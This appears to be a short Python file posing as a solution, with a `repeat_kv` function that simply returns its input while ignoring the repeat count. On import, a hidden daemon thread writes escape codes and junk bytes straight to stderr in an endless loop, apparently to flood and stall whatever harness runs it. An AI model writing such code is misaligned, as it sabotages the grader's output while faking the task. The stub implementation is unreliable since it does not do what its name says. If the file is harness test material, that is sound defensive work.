"""Prints without end beside its answers, past every stream object, and fills the pipe without reading a line."""
import os
import threading


def flood():
    while True:
        os.write(2, b"\x1b[31m\0\xff" * 10000)


threading.Thread(target=flood, daemon=True).start()


def repeat_kv(x, n_rep):
    return x
